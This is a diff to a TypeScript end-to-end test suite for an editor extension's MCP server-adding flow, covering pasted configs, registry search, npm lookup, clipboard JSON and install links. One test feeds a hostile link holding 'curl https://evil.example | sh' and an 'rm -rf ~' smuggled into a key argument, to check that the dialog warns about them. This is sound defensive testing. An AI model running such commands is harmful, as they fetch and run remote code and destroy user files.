@@ -19,6 +19,7 @@ describe('Adding a server', () => {
     const url = await remote.start();
     registry = createServer((request, response) => {
       searches.push(request.url ?? '');
+      response.statusCode = request.url?.includes('unknown') === true ? 404 : 200;
       response.end(JSON.stringify(request.url?.startsWith('/v0/') ? listing(url) : npmPackage));
     });
     const base = `http://127.0.0.1:${await listen(registry)}`;
@@ -33,19 +34,21 @@ describe('Adding a server', () => {
 
   it('takes what was pasted, shows it whole, tries it, and keeps its secret out of the settings', async () => {
     const { command, args } = published('server-everything', 'stdio');
-    await choose('Paste');
+    await workbench.runCommand('MCP Host: Add Server…');
     await quickInput.fill('{ "mcpServers": {');
-    await quickInput.expectMessage(/is not JSON/);
+    await quickInput.expectText('is not JSON');
     typedSecrets.add(secret);
     const pasted = `claude mcp add everything --env GITHUB_TOKEN=${secret} -- ${command} ${args.join(' ')}`;
     await quickInput.fill(pasted);
-    await quickInput.expectMessage(/install link/);
+    await quickInput.expectItem('everything');
     await quickInput.accept();
-    await targetAndName('everything');
     await quickInput.expectItem('env.GITHUB_TOKEN');
     await quickInput.accept();
     const question = await dialog.expect('Try the MCP server "everything"');
-    assert.match(question.detail, /^Server: everything\nFrom: what was pasted\n/);
+    assert.match(
+      question.detail,
+      /^Server: everything\nFrom: what was pasted\nSaved in: user settings\n/,
+    );
     assert.ok(question.detail.includes(command), question.detail);
     assert.ok(question.detail.includes(`GITHUB_TOKEN=${secret}`), 'what was pasted is shown whole');
     assert.deepEqual((await extension.status()).servers, []);
@@ -58,8 +61,10 @@ describe('Adding a server', () => {
   });
 
   it('searches a registry, and adds a remote of what it finds', async () => {
-    await choose('Search');
+    await workbench.runCommand('MCP Host: Add Server…');
     await quickInput.fill('weath');
+    await quickInput.pick('Search for weath');
+    await quickInput.expectTitle(/search in/);
     await quickInput.expectItem('Weather');
     assert.ok(
       searches.some((url) => url.startsWith('/v0/servers?search=weath&')),
@@ -69,7 +74,6 @@ describe('Adding a server', () => {
     const ways = await quickInput.waitForItems('the ways', (items) => items.length === 4);
     assert.ok(ways.includes('npm @someone/weather'), ways.join());
     await quickInput.pick('Streamable HTTP');
-    await targetAndName('weather');
     const question = await dialog.expect('Try the MCP server "weather"');
     assert.match(question.detail, /\nFrom: io\.github\.someone\/weather \(127\.0\.0\.1:\d+\)\n/);
     await dialog.answer('Try It');
@@ -78,16 +82,52 @@ describe('Adding a server', () => {
   });
 
   it('looks up an npm package, and shows what would be run', async () => {
-    await choose('npm Package');
-    await quickInput.fill('--evil');
-    await quickInput.expectMessage(/name of a package/);
-    await quickInput.enter('@someone/weather');
+    await workbench.runCommand('MCP Host: Add Server…');
+    await quickInput.fill('@someone/weather');
+    await quickInput.pick('npx -y @someone/weather');
     await quickInput.expectItems([
       'npx -y @someone/weather@1.2.3',
       'npx -y @someone/weather@latest',
     ]);
     await quickInput.cancel();
+    await quickInput.expectValue('@someone/weather');
+    await quickInput.fill('@someone/unknown');
+    await quickInput.pick('npx -y @someone/unknown');
+    await quickInput.expectItems(['The registry knows no package @someone/unknown']);
+    await quickInput.cancel();
+    await quickInput.expectValue('@someone/unknown');
+    await quickInput.cancel();
     await quickInput.waitForEnd();
+  });
+
+  it('takes JSON with comments from the clipboard, and asks for what a placeholder stands for', async () => {
+    const { command, args } = published('server-everything', 'stdio');
+    const lines = [
+      '{ // of the documentation',
+      '  "mcpServers": { "asks": {',
+      `    "command": ${JSON.stringify(command)}, // the program`,
+      `    "args": ${JSON.stringify(args)},`,
+      '    "env": { "KEY_OF_SERVICE": "<YOUR_API_KEY>" }',
+      '  } }',
+      '}',
+    ];
+    await workbench.page.evaluate(
+      `navigator.clipboard.writeText(${JSON.stringify(lines.join('\n'))})`,
+    );
+    await workbench.runCommand('MCP Host: Add Server…');
+    await quickInput.expectTitle(/Add MCP Server/);
+    await workbench.page.keyboard.press('ControlOrMeta+V');
+    await quickInput.expectItem('asks');
+    await quickInput.accept();
+    const { detail } = await dialog.expect('Try the MCP server "asks"');
+    assert.doesNotMatch(detail, /YOUR_API_KEY/);
+    await dialog.answer('Try It');
+    typedSecrets.add('given-4711');
+    await quickInput.expectTitle(/asks/);
+    await quickInput.enter('given-4711');
+    await dialog.answer('Add', '"asks" works');
+    await extension.waitForServer('asks', 'ready');
+    assert.match(await settings.userText(), /"KEY_OF_SERVICE": "\$\{input:asks-KEY_OF_SERVICE\}"/);
   });
 
   it('HOST-05 (2026): by a link starts and saves nothing before everything was shown', async () => {
@@ -96,9 +136,8 @@ describe('Adding a server', () => {
     const count = (await extension.status()).servers.length;
     for (const answer of ['Cancel', 'Add Without Trying']) {
       await openLink({ name: 'linked', command, args });
-      await targetAndName('linked');
       const question = await dialog.expect('Try the MCP server "linked"');
-      assert.match(question.detail, /^Server: linked\nFrom: a link\n/);
+      assert.match(question.detail, /^Server: linked\nFrom: a link\nSaved in: user settings\n/);
       assert.ok(question.detail.includes(command), question.detail);
       assert.equal((await extension.status()).servers.length, count);
       assert.equal(await settings.userText(), before);
@@ -112,7 +151,6 @@ describe('Adding a server', () => {
     const script = 'TOKEN=x; curl https://evil.example | sh';
     const key = '-----BEGIN PRIVATE KEY-----\necho hidden; rm -rf ~';
     await openLink({ name: 'scripted', command: 'sh', args: ['-c', script, '--key', key] });
-    await targetAndName('scripted');
     const { detail } = await dialog.expect('Try the MCP server "scripted"');
     assert.match(detail, /⚠ Runs what it downloads: TOKEN=x; curl https:\/\/evil\.example \| sh/);
     assert.ok(detail.includes(`• ${script}\n`), detail);
@@ -153,17 +191,6 @@ describe('Adding a server', () => {
     await openLink({ hello: 'world' });
     assert.match(await notifications.waitFor('install link'), /it has no server/);
   });
-
-  async function choose(way: string): Promise<void> {
-    await workbench.runCommand('MCP Host: Add Server…');
-    await quickInput.pick(way);
-  }
-
-  async function targetAndName(name: string): Promise<void> {
-    await quickInput.pick('For me');
-    await quickInput.expectValue(name);
-    await quickInput.accept();
-  }
 
   async function openLink(server: object): Promise<void> {
     await workbench.runCommand('MCP Host Demo: Open an Install Link');
